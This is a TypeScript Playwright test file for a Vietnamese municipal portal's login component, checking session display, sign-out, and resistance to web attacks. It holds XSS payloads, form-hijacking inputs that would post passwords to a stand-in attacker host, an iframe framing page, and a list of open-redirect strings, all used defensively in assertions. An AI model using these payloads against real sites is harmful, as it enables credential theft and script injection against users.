import assert from 'node:assert/strict';
import { after, afterEach, before, describe, test } from 'node:test';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { openChromium } from '../bundle/page.ts';
import { violations } from '../demo/axe.ts';
import { openAspNet, type AspNetOptions } from './aspnet-site.ts';
import { json, openSite, page as html } from './site.ts';

const account = 'session="/api/me" sign-out="/dang-xuat"';

describe('who is signed in', () => {
  let browser: Browser;
  let context: BrowserContext;
  let site: Awaited<ReturnType<typeof openAspNet>>;
  before(async () => {
    browser = await openChromium();
  });
  after(() => browser.close());
  afterEach(async () => {
    await context.close();
    await site.close();
  });

  /** A page on which somebody has just signed in. */
  const signIn = async (options: AspNetOptions = {}): Promise<Page> => {
    site = await openAspNet({ attributes: account, ...options });
    context = await browser.newContext();
    const page = await context.newPage();
    page.setDefaultTimeout(20_000);
    await page.goto(site.address);
    await page.getByLabel('Tên đăng nhập').fill('vanphong');
    await page.getByLabel('Mật khẩu', { exact: true }).fill('lua-chin-2026');
    await page.keyboard.press('Enter');
    await page.getByRole('button', { name: 'Đăng xuất' }).waitFor();
    return page;
  };

  test('name, role and the portal’s links stand in the place of the form, which moves nothing', async () => {
    const page = await signIn({
      me: { name: 'Văn phòng xã', role: 'Biên tập viên', links: [{ text: 'Trang quản trị', href: '/quan-tri' }] },
    });
    await page.getByText('Biên tập viên').waitFor();
    assert.equal(
      await page.getByRole('link', { name: 'Trang quản trị' }).getAttribute('href'),
      `${site.address}quan-tri`,
    );
    assert.equal(await page.locator('[type=password]').isVisible(), false);
    assert.deepEqual(await violations(page), []);
  });

  test('an account of many links is no higher than the form: it scrolls, and nothing below moves', async () => {
    const links = Array.from({ length: 12 }, (_, index) => ({ text: `Việc ${index + 1}`, href: '/viec' }));
    let answer: () => void = () => undefined;
    const page = await signIn({ me: { name: 'Văn phòng xã', links } });
    const held = new Promise<void>((resolve) => (answer = resolve));
    await page.route('**/api/me', async (route) => {
      await held;
      await route.continue();
    });
    await page.reload();
    await page.getByLabel('Tên đăng nhập').waitFor();
    await page.locator('.cw-show').waitFor();
    const height = (): Promise<number> =>
      page.locator('portal-login').evaluate((login: HTMLElement) => login.offsetHeight);
    const before = await height();
    answer();
    await page.getByRole('link', { name: 'Việc 12' }).focus();
    assert.equal(await height(), before);
    const { y, height: shown } = (await page.getByRole('link', { name: 'Việc 12' }).boundingBox())!;
    const login = (await page.locator('portal-login').boundingBox())!;
    assert.ok(y + shown <= login.y + login.height + 1);
    assert.deepEqual(await violations(page), []);
  });

  test('signs out by a POST with the page’s token, and other tabs see it', async () => {
    const page = await signIn();
    const other = await context.newPage();
    await other.goto(site.address);
    await other.getByRole('button', { name: 'Đăng xuất' }).waitFor();
    await page.getByRole('button', { name: 'Đăng xuất' }).click();
    await page.getByLabel('Tên đăng nhập').waitFor();
    await other.getByLabel('Tên đăng nhập').waitFor();
    assert.equal(site.arrivals.signOuts.length, 1);
    assert.deepEqual([...site.arrivals.signOuts[0]!.keys()], ['__RequestVerificationToken']);
  });

  test('an attacker’s data are text: no script’s address, no picture of another site, no markup', async () => {
    const page = await signIn({
      me: {
        name: '<img src=x onerror="document.title=1">',
        picture: 'https://theo-doi.example/a.gif',
        links: [
          { text: 'Quản trị', href: 'javascript:document.title=2' },
          { text: 'Dữ liệu', href: 'data:text/html,<script>document.title=3</script>' },
          { text: 'Văn bản', href: '/van-ban' },
          { text: 'Nối dòng', href: 'java\nscript:document.title=4' },
          { text: 'Tệp', href: 'blob:https://bat.example/1' },
          { text: 'Không mã hóa', href: 'http://bat.example/' },
          null,
          { href: '/khong-chu' },
        ],
      },
    });
    await page.getByText('<img src=x onerror="document.title=1">').waitFor();
    assert.deepEqual(await page.locator('.account a').allTextContents(), ['Văn bản']);
    assert.equal(await page.locator('.account img').count(), 0);
    assert.equal(await page.title(), 'Cổng xã Suối Ngàn');
  });

  test('addresses of another site are not asked, posted to, or followed', async () => {
    site = await openAspNet({ attributes: 'session="//bat.example/me" sign-out="https://bat.example/ra"' });
    const elsewhere = await openSite((_, response) => json(response, { name: 'Kẻ lạ' }));
    const redirecting = await openSite(({ url }, response) => {
      if (url.pathname === '/me')
        response
          .writeHead(302, { location: `http://localhost:${elsewhere.port}/`, 'access-control-allow-origin': '*' })
          .end();
      else html(response, '<portal-login session="/me"><a href="/vao">Đăng nhập</a></portal-login>');
    });
    context = await browser.newContext();
    const page = await context.newPage();
    page.setDefaultTimeout(20_000);
    const abroad: string[] = [];
    page.on('request', (request) => {
      if (new URL(request.url()).hostname !== '127.0.0.1') abroad.push(request.url());
    });
    const warned = page.waitForEvent('console', (message) => message.text().includes('session'));
    await page.goto(site.address);
    await warned;
    assert.equal(await page.getByLabel('Tên đăng nhập').isVisible(), true);
    assert.deepEqual(abroad, []);
    await page.addInitScript(() => {
      addEventListener('cw-login-session', (event) => console.log('phien', (event as CustomEvent).detail.signedIn));
    });
    const told = page.waitForEvent('console', (message) => message.text().startsWith('phien'));
    await page.goto(`http://127.0.0.1:${redirecting.port}/`);
    assert.equal((await told).text(), 'phien false');
    assert.equal(await page.getByRole('link', { name: 'Đăng nhập' }).isVisible(), true);
    await elsewhere.close();
    await redirecting.close();
  });

  test('a failure of the server signs nobody out, its word that nobody is signed in does', async () => {
    const page = await signIn({ me: { name: 'Văn phòng xã', links: [{ text: 'Không dẫn tới đâu' }] } });
    const events = await page.evaluateHandle(() => {
      const seen: boolean[] = [];
      document.addEventListener('cw-login-session', (event) =>
        seen.push((event as CustomEvent<{ signedIn: boolean }>).detail.signedIn),
      );
      return seen;
    });
    const lookAgain = async (status: number): Promise<void> => {
      await page.unroute('**/api/me');
      await page.route('**/api/me', (route) => route.fulfill({ status }));
      const answered = page.waitForResponse('**/api/me');
      await page.evaluate(() => document.dispatchEvent(new Event('visibilitychange')));
      await answered;
    };
    await lookAgain(503);
    assert.equal(await page.getByRole('link', { name: 'Không dẫn tới đâu' }).count(), 0);
    assert.equal(await page.getByRole('button', { name: 'Đăng xuất' }).isVisible(), true);
    await lookAgain(401);
    await page.getByLabel('Tên đăng nhập').waitFor();
    assert.deepEqual(await events.jsonValue(), [false]);
  });

  test('an answer that is none leaves the form, without a word', async () => {
    site = await openAspNet({ attributes: 'session="/khong-phai-json"' });
    context = await browser.newContext();
    const page = await context.newPage();
    const said: string[] = [];
    page.on('pageerror', (error) => said.push(error.message));
    const asked = page.waitForResponse('**/khong-phai-json');
    await page.goto(site.address);
    await asked;
    await page.getByLabel('Tên đăng nhập').waitFor();
    assert.deepEqual(said, []);
  });
});

describe('attacks on a login', () => {
  let browser: Browser;
  let page: Page;
  let close: () => Promise<void>;
  before(async () => {
    browser = await openChromium();
  });
  after(() => browser.close());
  afterEach(async () => {
    await page.close();
    await close();
  });

  const open = async (options: AspNetOptions): Promise<Awaited<ReturnType<typeof openAspNet>>> => {
    const site = await openAspNet(options);
    ({ close } = site);
    page = await browser.newPage();
    page.setDefaultTimeout(20_000);
    await page.goto(site.address);
    return site;
  };
  const trySignIn = async (): Promise<void> => {
    await page.getByLabel('Tên đăng nhập').fill('vanphong');
    await page.getByLabel('Mật khẩu', { exact: true }).fill('lua-chin-2026');
    await page.getByRole('button', { name: 'Đăng nhập' }).click();
  };

  for (const [attack, options] of Object.entries({
    'a button with an address of its own': { buttonAttributes: 'formaction="http://localhost:9/bat"' },
    'a form attribute that gives the fields to another form': {
      buttonAttributes: 'form="bat"',
      extra:
        '<form id="bat" method="post" action="http://localhost:9/bat"></form><script>document.querySelectorAll("portal-login input").forEach((field) => field.setAttribute("form", "bat"))</script>',
    },
    'a base that leads every address elsewhere': { extra: '<base href="http://localhost:9/">' },
    'an address that is none': { buttonAttributes: 'formaction="http://[bat"' },
    'a script for an address': { buttonAttributes: 'formaction="javascript:document.title=1"' },
    'fields named as what the form is asked for': {
      buttonAttributes: 'formaction="http://localhost:9/bat"',
      extra: '<input form="aspnetForm" name="action" value="/"><input form="aspnetForm" name="method" value="post">',
    },
  })) {
    test(`${attack}: the password is not sent to another site`, async () => {
      await open(options);
      const abroad: string[] = [];
      page.on('request', (request) => {
        if (request.url().includes(':9/')) abroad.push(request.url());
      });
      await trySignIn();
      await page.getByText('trang này làm lộ mật khẩu').waitFor();
      assert.deepEqual(abroad, []);
    });
  }

  test('a button of somebody else’s takes no typed password along to another site', async () => {
    await open({ extra: '<button form="aspnetForm" formaction="http://localhost:9/bat">Nhận quà</button>' });
    const abroad: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes(':9/')) abroad.push(request.url());
    });
    await page.getByLabel('Tên đăng nhập').fill('vanphong');
    await page.getByLabel('Mật khẩu', { exact: true }).fill('lua-chin-2026');
    await page.getByRole('button', { name: 'Nhận quà' }).click();
    await page.getByText('trang này làm lộ mật khẩu').waitFor();
    assert.deepEqual(abroad, []);
  });

  test('Enter in a field that was given to another form sends nothing to another site', async () => {
    await open({
      extra: `<form id="bat" method="post" action="http://localhost:9/bat"></form><script>document.querySelectorAll("portal-login input:not([type=submit])").forEach((field) => field.setAttribute("form", "bat"))</script>`,
    });
    const abroad: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes(':9/')) abroad.push(request.url());
    });
    await page.getByLabel('Tên đăng nhập').fill('vanphong');
    await page.getByLabel('Mật khẩu', { exact: true }).fill('lua-chin-2026');
    await page.getByLabel('Tên đăng nhập').press('Enter');
    await page.getByLabel('Mật khẩu', { exact: true }).press('Enter');
    await page.evaluate(() => document.querySelector<HTMLFormElement>('#bat')!.requestSubmit());
    await page.getByText('trang này làm lộ mật khẩu').waitFor();
    assert.deepEqual(abroad, []);
  });

  test('a password is never written into an address', async () => {
    await open({ buttonAttributes: 'formmethod="get"' });
    await trySignIn();
    await page.getByText('trang này làm lộ mật khẩu').waitFor();
    assert.equal(new URL(page.url()).search, '');
  });

  test('in a frame of another site no password is taken', async () => {
    const site = await open({});
    const attacker = await openSite((_, response) =>
      html(response, `<iframe title="x" width="600" height="600" src="http://localhost:${site.port}/"></iframe>`),
    );
    await page.goto(`http://127.0.0.1:${attacker.port}/`);
    const frame = page.frameLocator('iframe');
    await frame.getByText('đang nhúng trang này').waitFor();
    assert.equal(await frame.locator('[type=password]').isDisabled(), true);
    await attacker.close();
  });

  test('the return address never leads to another site', async () => {
    const { port, close: closeSite } = await openSite(({ url }, response) => {
      if (url.pathname === '/api') return json(response, {});
      const link = '<a href="/dang-nhap">Đăng nhập</a>';
      const content = url.searchParams.has('doan') ? `<p>${link}</p>` : link;
      html(response, `<portal-login return-param="ReturnUrl">${content}</portal-login>`);
    });
    close = closeSite;
    page = await browser.newPage();
    page.setDefaultTimeout(20_000);
    const returnUrl = async (path: string): Promise<string | null> => {
      await page.goto(`http://127.0.0.1:${port}${path}`);
      await page.waitForFunction(() => document.querySelector('a')!.search);
      return new URL(await page.locator('a').evaluate((link: HTMLAnchorElement) => link.href)).searchParams.get(
        'ReturnUrl',
      );
    };
    assert.equal(await returnUrl('/tin-tuc?trang=2#bai-3'), '/tin-tuc?trang=2#bai-3');
    // An editor has put the link into a paragraph.
    assert.equal(await returnUrl('/tin-tuc?doan'), '/tin-tuc?doan');
    assert.equal(await returnUrl('/dang-nhap?ReturnUrl=%2Fvan-ban'), '/van-ban');
    for (const elsewhere of [
      'https://bat.example/',
      'https:bat.example',
      'HTTPS://BAT.EXAMPLE/',
      '//bat.example/',
      '///bat.example/',
      '/\\bat.example',
      '\\\\bat.example',
      '/\t/bat.example',
      ' //bat.example',
      `http://127.0.0.1:${port}@bat.example/`,
      `http://127.0.0.1:${port}.bat.example/`,
      `//127.0.0.1:${port + 1}/`,
      'javascript:alert(1)',
      'java\nscript:alert(1)',
      'data:text/html,x',
      'http://[bat',
    ])
      assert.equal(await returnUrl(`/dang-nhap?ReturnUrl=${encodeURIComponent(elsewhere)}`), '/dang-nhap', elsewhere);
    // Encoded twice it is a path of this site, and stays one.
    assert.equal(await returnUrl('/dang-nhap?ReturnUrl=%252F%252Fbat.example'), '/%2F%2Fbat.example');
    assert.equal(await returnUrl('/dang-nhap?ReturnUrl=%2F.%2F%2Fbat.example'), '/bat.example');
    assert.equal(await returnUrl('//bat.example/'), '/bat.example/');
  });
});
